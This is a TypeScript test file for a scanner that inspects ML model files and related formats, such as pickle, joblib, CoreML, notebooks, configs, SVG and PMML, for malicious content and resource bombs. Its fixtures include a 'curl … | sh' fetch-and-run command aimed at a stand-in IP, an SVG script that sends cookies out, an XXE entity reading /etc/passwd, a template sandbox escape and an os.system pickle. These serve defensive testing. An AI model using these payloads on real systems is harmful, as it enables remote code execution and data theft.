/** Bombs, nesting and defects: bounded, reported, and the rest still scanned. */
import { deflateRawSync, gzipSync } from 'node:zlib';
import fc from 'fast-check';
import { describe, expect, test } from 'vitest';
import { bufferInput } from '../../src/supply/input.ts';
import type { Format, ScanLimits } from '../../src/supply/contract.ts';
import { scanInput } from '../../src/supply/scan.ts';
import { assemble } from '../support/pickle-assembler.ts';

const MALICIOUS = assemble('GLOBAL os system; STRING id; TUPLE1; REDUCE; STOP');
const rulesIn = (bytes: Buffer, name: string, limits: Partial<ScanLimits> = {}): readonly string[] => scanInput(bufferInput(name, bytes), name, { limits }).findings.map(({ rule }) => rule);

describe('bombs', () => {
  test('a gigabyte of zeros ends at the ratio, with what came first scanned', () => {
    const bomb = gzipSync(Buffer.concat([MALICIOUS, Buffer.alloc(200 * 1024 * 1024)]));
    const before = process.memoryUsage().rss;
    const found = rulesIn(bomb, 'm.pkl.gz');
    expect(found).toContain('limit.ratio');
    expect(found).toContain('pickle.dangerous-call');
    expect(process.memoryUsage().rss - before).toBeLessThan(150 * 1024 * 1024);
  });

  test('gzip in gzip in gzip ends at the depth', () => {
    let bytes: Buffer = MALICIOUS;
    for (let i = 0; i < 30; i++) bytes = gzipSync(bytes);
    expect(rulesIn(bytes, 'm.gz')).toContain('limit.depth');
    expect(rulesIn(bytes, 'm.gz', { depth: 40 })).toContain('pickle.dangerous-call');
  });

  test('the bytes of all members count together', () => {
    const member = gzipSync(Buffer.alloc(100_000, 1));
    expect(rulesIn(gzipSync(Buffer.concat(Array.from({ length: 5 }, () => member))), 'm.gz', { unpackedBytes: 50_000 })).toContain('limit.bytes');
  });

  test('a value that the memo puts into many places is not looked into as often', () => {
    // Three levels of four thousand: sixty-four thousand million texts of which one is in the file.
    const level = (place: number): string => `MARK; ${`BINGET ${place - 1}; `.repeat(4000)}TUPLE; BINPUT ${place}; `;
    const many = `STRING a; BINPUT 0; POP; ${[1, 2, 3].map(level).join('POP; ')}`;
    expect(rulesIn(assemble(`GLOBAL __main__ A; ${many}TUPLE1; REDUCE; STOP`), 'm.pkl')).toEqual(['pickle.unknown-call', 'pickle.expands']);
    expect(rulesIn(assemble(`PROTO 4; GLOBAL cloudpickle.cloudpickle _builtin_type; STRING CodeType; TUPLE1; REDUCE; ${many}TUPLE1; REDUCE; STOP`), 'm.pkl')).toEqual(['pickle.dangerous-code', 'pickle.expands']);
  });

  test('nested pickles share one budget of steps', () => {
    let nested = 'PROTO 4; EMPTY_DICT; STOP';
    for (let i = 0; i < 6; i++) nested = `PROTO 4; BINBYTES ${assemble(nested).toString('hex')}; STOP`;
    expect(rulesIn(assemble(nested), 'm.pkl')).toEqual([]);
    expect(rulesIn(assemble(nested), 'm.pkl', { steps: 10 })).toContain('limit.steps');
    expect(rulesIn(assemble(nested), 'm.pkl', { depth: 3 })).toContain('limit.depth');
  });
});

test('opcodes in the array of a joblib file cannot hide behind a bound', () => {
  const file = (count: number, filler: string): Buffer => {
    const array = Buffer.concat([Buffer.concat(Array.from({ length: count }, () => assemble(filler))), MALICIOUS]);
    const wrapper = `PROTO 2; GLOBAL joblib.numpy_pickle NumpyArrayWrapper; EMPTY_TUPLE; NEWOBJ; EMPTY_DICT; MARK; TEXT shape; BININT ${array.length}; TUPLE1; TEXT dtype; GLOBAL numpy dtype; TEXT u1; NEWFALSE; NEWTRUE; TUPLE3; REDUCE; SETITEMS; BUILD`;
    return Buffer.concat([assemble(wrapper), array, assemble('STOP')]);
  };
  expect(rulesIn(file(1_000, 'NONE; POP'), 'm.joblib')).toContain('pickle.dangerous-call');
  expect(rulesIn(file(1_000, 'NONE; POP'), 'm.joblib', { steps: 1_000 })).toContain('limit.steps');
  expect(rulesIn(file(2_000_001, 'NONE'), 'm.joblib')).toContain('pickle.limit');
});

test('an operation of an ML program is read however large and deep the block around it is', () => {
  const varint = (value: number): Buffer => (value < 0x80 ? Buffer.from([value]) : Buffer.concat([Buffer.from([(value & 0x7f) | 0x80]), varint(Math.floor(value / 0x80))]));
  const field = (number: number, content: Buffer): Buffer => Buffer.concat([varint(number * 8 + 2), varint(content.length), content]);
  const model = (depth: number, constant: number): Buffer => {
    let block: Buffer = Buffer.concat([field(3, Buffer.alloc(constant)), field(1, Buffer.from('custom_layer'))]);
    for (let i = 0; i < depth; i++) block = field(3, block);
    return Buffer.concat([Buffer.from('080412050a030a0178', 'hex'), field(502, block)]);
  };
  for (const [depth, constant] of [[3, 0], [3, 2_000_000], [30, 0]] as const) expect(rulesIn(model(depth, constant), 'model.mlmodel')).toContain('coreml.custom-layer');
  expect(rulesIn(model(100, 0), 'model.mlmodel')).toContain('coreml.malformed');
});

describe('what is harmful is found behind any length of what is not', () => {
  const command = 'curl http://198.51.100.7/x | sh';
  const LONG = 1_500_000;
  const cell = (source: string): object => ({ cell_type: 'code', metadata: {}, outputs: [], execution_count: null, source });
  const notebook = (cells: readonly object[]): string => JSON.stringify({ nbformat: 4, nbformat_minor: 5, metadata: {}, cells });
  test.each<[what: string, name: string, rule: string, text: (pad: number) => string]>([
    ['a command of a configuration', 'config.json', 'json.dangerous-code', (pad) => JSON.stringify({ command: `${' '.repeat(pad)}${command}` })],
    ['a chat template', 'tokenizer_config.json', 'json.template-code', (pad) => JSON.stringify({ chat_template: `${'a '.repeat(pad / 2)}{{ ''.__class__.__mro__[1].__subclasses__() }}` })],
    ['a script for a shell', 'run.sh', 'shell.dangerous-command', (pad) => `${'echo hello\n'.repeat(pad / 11)}${command}\n`],
    ['Python', 'run.py', 'python.dangerous-code', (pad) => `${'x = 1\n'.repeat(pad / 6)}import os\nos.system('${command}')\n`],
    ['a script in a picture', 'plot.svg', 'xml.dangerous-code', (pad) => `<svg xmlns="http://www.w3.org/2000/svg">${'<g/>'.repeat(pad / 16)}<script>${'var a=1;'.repeat(pad / 16)}fetch('http://198.51.100.7/?c='+document.cookie)</script></svg>`],
    ['an entity', 'model.pmml', 'xml.external-entity', (pad) => `<!DOCTYPE x [${'<!ELEMENT a ANY>'.repeat(pad / 16)}<!ENTITY e SYSTEM "file:///etc/passwd">]><PMML>&e;</PMML>`],
    ['a cell of a notebook', 'train.ipynb', 'notebook.dangerous-code', (pad) => notebook([...Array.from({ length: pad / 2_000 }, (_, i) => cell(`!pip install --index-url https://x${i}.example/ a`)), cell(`import os\nos.system('${command}')`)])],
  ])('%s', (_, name, rule, text) => {
    expect(rulesIn(Buffer.from(text(160)), name)).toContain(rule);
    expect(rulesIn(Buffer.from(text(LONG)), name)).toContain(rule);
  });

  test('Python that is put together behind more text than is followed is no ordinary program', () => {
    const padded = (pad: number): Buffer => Buffer.from(`exec("${'#'.repeat(pad)}" + "\\nimport os\\nos.system('${command}')")\n`);
    expect(rulesIn(padded(10), 'run.py')).toContain('python.dangerous-code');
    expect(rulesIn(padded(250_000), 'run.py')).toContain('python.odd-code');
  });

  test('strings of bytes beyond those that are looked into are told of', () => {
    const inner = `BINBYTES ${assemble('PROTO 4; EMPTY_DICT; POP; EMPTY_LIST; STOP').toString('hex')}; POP; `;
    expect(rulesIn(assemble(`${inner.repeat(900)} NONE; STOP`), 'm.pkl')).not.toContain('pickle.limit');
    expect(rulesIn(assemble(`${inner.repeat(1_200)} NONE; STOP`), 'm.pkl')).toContain('pickle.limit');
  });
});

test('findings are bounded, and the first of each rule is kept', () => {
  const many = Array.from({ length: 500 }, (_, i) => `GLOBAL mine f${i}; POP`).join(';');
  const report = scanInput(bufferInput('m.pkl', assemble(`${many}; GLOBAL os system; STOP`)), 'm.pkl', { limits: { findings: 20 } });
  expect(report.verdict).toBe('malicious');
  expect(report.findings.length).toBeLessThan(30);
  expect(report.findings.at(-1)?.rule).toBe('scan.more-findings');
});

test('a format that throws leaves the file unscanned, and the others scan it', () => {
  const broken: Format = { id: 'broken', title: 'A format with a defect', extensions: [], carriesCode: false, rules: [], detect: () => 'signature', scan: () => { throw new TypeError('a defect'); } };
  const { verdict, findings } = scanInput(bufferInput('m', Buffer.from('x')), 'm', { formats: [broken] });
  expect([verdict, findings.map(({ rule }) => rule)]).toEqual(['unscanned', ['scan.failed']]);
});

test('random bytes behind every head end in a verdict', () => {
  const heads = ['80049500', '504b0304', '504b0506', '1f8b0800', '425a6839', 'fd377a585a00', '5d00008000', '28b52ffd', '04224d18', '934e554d5059', '47475546', '789c', '0a00000000000000'].map((hex) => Buffer.from(hex, 'hex'));
  fc.assert(fc.property(fc.constantFrom(...heads), fc.uint8Array({ maxLength: 600 }), fc.constantFrom('m', 'm.pkl', 'm.pt', 'm.npz', 'm.gguf', 'm.safetensors', 'm.joblib'), (head, bytes, name) => {
    const { findings } = scanInput(bufferInput(name, Buffer.concat([head, bytes])), name);
    expect(findings.filter(({ rule }) => rule === 'scan.failed')).toEqual([]);
  }), { numRuns: 600 });
});

test('deflate that is no deflate inside a zip is said, not thrown', () => {
  const packed = deflateRawSync(MALICIOUS);
  for (let i = 0; i < packed.length; i++) {
    const changed = Buffer.from(packed);
    changed[i] = (changed[i] ?? 0) ^ 0xff;
    expect(rulesIn(gzipSync(changed), 'm.gz')).not.toContain('scan.failed');
  }
});
